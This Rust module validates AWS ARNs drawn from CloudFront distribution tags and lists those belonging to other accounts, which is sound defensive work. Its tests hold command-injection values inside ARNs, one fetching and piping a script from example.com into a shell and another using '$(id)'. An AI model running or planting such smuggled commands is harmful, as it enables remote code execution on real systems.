//! ARNs that come from a distribution's tags: whoever may tag it may write them, so that none counts before it is looked at.

use crate::domain::edge::config::web_acl_of;
use crate::domain::edge::xml::{self, Element};

/// All that CloudFront uses in this way is there.
const REGION: &str = "us-east-1";
/// What stands in the name of a resource besides letters and digits; none of it means anything to a shell.
const MARKS: &str = "-_.:/+=@";

/// The account that `arn` is of; `None` where it names none.
#[must_use]
pub fn account_of(arn: &str) -> Option<&str> {
    arn.split(':').nth(4).filter(|account| !account.is_empty())
}

/// Whether `arn` is a well-formed ARN of `service` in this account.
#[must_use]
pub fn is_of(arn: &str, service: &str, account: &str) -> bool {
    let parts: Vec<&str> = arn.splitn(6, ':').collect();
    let [start, partition, of_service, region, of_account, resource] = parts[..] else {
        return false;
    };
    start == "arn"
        && partition.starts_with("aws")
        && of_service == service
        && region == REGION
        && of_account == account
        && !resource.is_empty()
        && arn
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || MARKS.contains(c))
}

/// The ARNs that `config` has the distribution use and that are none of this account: web ACL, functions, certificate.
#[must_use]
pub fn strange(config: &Element, account: &str) -> Vec<String> {
    let functions = xml::items_at(config, "DefaultCacheBehavior/LambdaFunctionAssociations");
    let functions = functions
        .into_iter()
        .filter_map(|item| xml::text_at(item, "LambdaFunctionARN"))
        .map(|arn| ("lambda", arn));
    let web_acl = Some(web_acl_of(config)).filter(|arn| !arn.is_empty());
    let certificate = xml::text_at(config, "ViewerCertificate/ACMCertificateArn");
    let used = functions
        .chain(web_acl.map(|arn| ("wafv2", arn)))
        .chain(certificate.map(|arn| ("acm", arn)));
    used.filter(|(service, arn)| !is_of(arn, service, account))
        .map(|(_, arn)| arn)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const ACCOUNT: &str = "111122223333";

    #[test]
    fn an_arn_counts_where_it_is_of_this_account_and_service_and_means_nothing_to_a_shell() {
        let is = |arn: &str| is_of(arn, "lambda", ACCOUNT);
        assert!(is(
            "arn:aws:lambda:us-east-1:111122223333:function:their-signer:3"
        ));
        for arn in [
            "arn:aws:lambda:us-east-1:999999999999:function:their-signer:3",
            "arn:aws:lambda:eu-north-1:111122223333:function:their-signer:3",
            "arn:aws:wafv2:us-east-1:111122223333:global/webacl/theirs/1",
            "arn:aws:lambda:us-east-1:111122223333:function:x; curl example.com | sh",
            "arn:aws:lambda:us-east-1:111122223333:function:$(id)",
            "arn:aws:lambda:us-east-1:111122223333:",
            "their-signer",
            "",
        ] {
            assert!(!is(arn), "{arn}");
        }
    }

    #[test]
    fn the_account_is_that_of_the_distribution() {
        assert_eq!(
            account_of("arn:aws:cloudfront::111122223333:distribution/E1"),
            Some(ACCOUNT)
        );
        assert_eq!(account_of("E1"), None);
    }
}
